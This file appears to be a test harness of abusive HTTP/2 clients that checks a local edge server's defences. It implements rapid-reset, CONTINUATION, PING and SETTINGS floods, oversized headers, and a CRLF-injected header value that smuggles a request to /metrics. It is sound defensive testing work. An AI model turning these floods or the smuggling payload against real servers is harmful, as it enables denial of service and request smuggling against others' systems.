"""Abusive HTTP/2 clients for the edge's defences, written with hyper-h2's frame and HPACK
libraries (hyperframe, hpack): a peer no one here wrote builds every frame.

usage: h2_abuse.py PORT ATTACK [COUNT]
ATTACK: rapid-reset, continuation, ping, settings, big-headers, crlf-value, idle, ok

Prints one JSON line: the GOAWAY error code the server sent (null if none), whether it closed
the connection, the response statuses it sent, and the RST_STREAM codes.
"""
import json
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock = context.wrap_socket(raw, server_hostname="localhost")
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock


def request_block(encoder, extra=()):
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/healthz")]
    return encoder.encode(fields + list(extra))


def attack(sock, name, count):
    encoder = hpack.Encoder()
    if name == "rapid-reset":
        for i in range(count):
            stream = 1 + 2 * i
            sock.sendall(HeadersFrame(stream, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]).serialize()
                         + RstStreamFrame(stream, error_code=8).serialize())
    elif name == "continuation":
        block = request_block(encoder)
        sock.sendall(HeadersFrame(1, block[:1]).serialize())
        rest = block[1:]
        for _ in range(count):
            # Empty fragments: the block never ends.
            sock.sendall(ContinuationFrame(1, b"").serialize())
        sock.sendall(ContinuationFrame(1, rest, flags=["END_HEADERS"]).serialize())
    elif name == "ping":
        for i in range(count):
            sock.sendall(PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())
    elif name == "settings":
        for _ in range(count):
            sock.sendall(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize())
    elif name == "big-headers":
        extra = [("x-filler-%d" % i, "v" * 100) for i in range(count)]
        sock.sendall(HeadersFrame(1, request_block(encoder, extra), flags=["END_HEADERS", "END_STREAM"]).serialize())
    elif name == "crlf-value":
        block = request_block(encoder, [("x-smuggle", "a\r\n\r\nGET /metrics HTTP/1.1")])
        sock.sendall(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    elif name == "idle":
        pass
    elif name == "ok":
        sock.sendall(HeadersFrame(1, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]).serialize())
    else:
        raise SystemExit("unknown attack " + name)


def read_frames(sock, seconds):
    """Frames until the server closes or `seconds` pass: (goaway code, closed, statuses, resets)."""
    decoder = hpack.Decoder()
    buffer = b""
    goaway, statuses, resets = None, [], []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            return goaway, True, statuses, resets
        if not data:
            return goaway, True, statuses, resets
        buffer += data
        while len(buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
            if len(buffer) < 9 + length:
                break
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            if isinstance(frame, GoAwayFrame):
                goaway = frame.error_code
            elif isinstance(frame, HeadersFrame):
                statuses += [int(v) for k, v in decoder.decode(frame.data) if k == ":status"]
            elif isinstance(frame, RstStreamFrame):
                resets.append(frame.error_code)
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                try:
                    sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                except (ssl.SSLError, OSError):
                    pass  # the flood still fills our send buffer; the frames already read decide
    return goaway, False, statuses, resets


def main():
    port, name = int(sys.argv[1]), sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
    sock = connect(port)
    try:
        attack(sock, name, count)
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
        pass
    goaway, closed, statuses, resets = read_frames(sock, float(__import__("os").environ.get("H2_WAIT", "3")))
    print(json.dumps({"goaway": goaway, "closed": closed, "statuses": statuses, "resets": resets}))


if __name__ == "__main__":
    main()
